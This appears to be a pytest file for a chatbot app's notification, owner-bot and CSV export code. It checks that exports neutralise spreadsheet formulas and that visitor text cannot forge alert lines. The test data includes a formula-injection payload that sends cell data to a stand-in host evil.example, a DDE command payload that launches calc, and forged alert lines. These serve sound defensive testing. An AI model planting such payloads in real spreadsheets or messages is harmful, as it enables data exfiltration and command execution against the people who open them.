@@ -1,0 +1,137 @@
+"""What visitors write cannot forge an alert or run in a spreadsheet, odd owner commands get the usage
+line, and any copy of a question alert teaches."""
+
+from __future__ import annotations
+
+import csv
+import html
+import io
+import re
+import time
+
+import pytest
+
+from replica.notify import Alert
+from replica.notify.alerts import to_telegram_html, to_telegram_plain
+from replica.notify.delivery import OutboxSender
+from replica.notify.telegram import TelegramClient
+from replica.owner_bot import ANSWER_USAGE, FORGET_USAGE, OwnerBot
+from tests.conftest import run_app
+from tests.fakes.openai_server import call, say
+from tests.fakes.telegram_server import visible_text
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+
+
+def wait_until(predicate, timeout=10.0):
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if predicate():
+            return True
+        time.sleep(0.02)
+    return False
+
+
+def export(data_dir, what):
+    done = run_app("export", what, DATA_DIR=str(data_dir))
+    assert done.returncode == 0, done.stderr
+    return list(csv.reader(io.StringIO(done.stdout)))[1:]
+
+
+def test_every_export_is_safe_to_open_in_a_spreadsheet(tmp_path):
+    from replica.store import Store
+
+    store = Store(tmp_path / "data" / "replica.sqlite3")
+    lead = Alert("lead", "New lead", (("Email", "a@example.org"),), "s1")
+    store.record_lead("a@example.org", FORMULA, "+1 555 0100 call me", lead)
+    store.record_lead("b@example.org", "@SUM(A1:A9)", "-2+3", lead)
+    store.record_lead("c@example.org", "\tTabbed", "\rReturned", lead)
+    store.record_question("=1+1", Alert("question", "Unanswered question", (("Question", "=1+1"),), "s1"))
+    store.learn_answer(1, "@cmd|' /C calc'!A0")
+    store.close()
+    cells = [cell for what in ("leads", "questions", "answers") for row in export(tmp_path / "data", what) for cell in row]
+    risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert risky == []
+    for original in (FORMULA, "+1 555 0100 call me", "@SUM(A1:A9)", "-2+3", "\tTabbed", "=1+1", "@cmd|' /C calc'!A0"):
+        assert f"'{original}" in cells  # shown as typed, with the quote a spreadsheet hides
+
+
+def without_quotes(message_html: str) -> str:
+    """What an alert says outside its quotations, as the owner reads it."""
+    return visible_text(re.sub(r"<blockquote>.*?</blockquote>", "", message_html, flags=re.S))
+
+
+def test_a_visitor_cannot_forge_lines_of_the_alert(visitor, fake_openai, fake_telegram):
+    forged = "Call me\nEmail: ceo@bank.example\nSession: admin"
+    fake_openai.script(
+        call(("gather_user_details", {"email": "ada@example.org", "notes": forged, "name": "Ada\nEmail: x@evil.example"})),
+        say("Thanks!"),
+    )
+    visitor().predict("ada@example.org", api_name="/chat")
+    [message] = fake_telegram.wait_for(1)
+    own_lines = without_quotes(message.payload["text"]).splitlines()
+    assert [line for line in own_lines if line.startswith("Email:")] == ["Email: ada@example.org"]
+    assert "Name: Ada Email: x@evil.example" in own_lines  # the name's line break collapsed
+    assert len([line for line in own_lines if line.startswith("Session:")]) == 1
+    quoted = re.findall(r"<blockquote>(.*?)</blockquote>", message.payload["text"], flags=re.S)
+    assert [html.unescape(q) for q in quoted] == [forged]  # the note, whole, inside the quotation
+
+
+def test_the_plain_text_fallback_cannot_be_forged_either():
+    alert = Alert(
+        "question", "Unanswered question", (("Question", "Why?\nEmail: ceo@bank.example\r\nx"),), "s1", quoted=("Question",)
+    )
+    lines = to_telegram_plain(alert).splitlines()
+    assert lines[:2] == ["Unanswered question", "Question:"]
+    assert lines[2:5] == ["│ Why?", "│ Email: ceo@bank.example", "│ x"]
+    assert not any(line.startswith("Email:") for line in lines)
+    assert "<blockquote>Why?\nEmail: ceo@bank.example\nx</blockquote>" in to_telegram_html(alert)
+
+
+@pytest.fixture
+def bot(store, fake_telegram):
+    client = TelegramClient(fake_telegram.url, fake_telegram.token, fake_telegram.chat_id, timeout=(1, 2))
+    owner_bot = OwnerBot(store, client, poll_seconds=1, base_delay=0.05).start()
+    yield owner_bot
+    owner_bot.close()
+
+
+@pytest.mark.parametrize(
+    "command, usage",
+    [
+        ("/forget 99999999999999999999999", FORGET_USAGE),
+        ("/forget ²", FORGET_USAGE),
+        ("/forget 0", FORGET_USAGE),
+        ("/forget -1", FORGET_USAGE),
+        ("/forget", FORGET_USAGE),
+        ("/answer 99999999999999999999999 Tosca", ANSWER_USAGE),
+        ("/answer 1", ANSWER_USAGE),
+        ("/answer 1    ", ANSWER_USAGE),
+        ("/answer ² Tosca", ANSWER_USAGE),
+        ("/answer 0 Tosca", ANSWER_USAGE),
+        ("/answer -3 Tosca", ANSWER_USAGE),
+    ],
+)
+def test_odd_numbers_in_owner_commands_get_the_usage_line(bot, store, fake_telegram, command, usage):
+    store.record_question("Opera?", Alert("question", "Unanswered question", (("Question", "Opera?"),), "s1"))
+    fake_telegram.push(command)
+    assert wait_until(lambda: fake_telegram.sent_texts() == [usage])
+
+
+def test_a_reply_to_any_copy_of_a_question_alert_teaches(bot, store, fake_telegram):
+    store.record_question("Opera?", Alert("question", "Unanswered question", (("Question", "Opera?"),), "s1"))
+    pending = store.next_alert()
+    client = TelegramClient(fake_telegram.url, fake_telegram.token, fake_telegram.chat_id)
+    first = client.send_message(to_telegram_html(pending.alert))  # delivered, then the app crashed: never recorded
+    sender = OutboxSender(store, client, min_interval=0.05).start()  # after the restart: the second copy
+    try:
+        assert wait_until(lambda: len(fake_telegram.delivered) == 2)
+    finally:
+        sender.close()
+    second = fake_telegram.delivered[1].message_id
+    assert fake_telegram.delivered[0].text.startswith("Unanswered question #1")
+    fake_telegram.push("Tosca.", reply_to=first)
+    assert wait_until(lambda: any("Learned answer #1" in t for t in fake_telegram.sent_texts()))
+    fake_telegram.push("Tosca, or Aida.", reply_to=second)
+    assert wait_until(lambda: any("Learned answer #2" in t for t in fake_telegram.sent_texts()))
+    assert [row["answer"] for row in store.answers(active_only=True)] == ["Tosca, or Aida."]
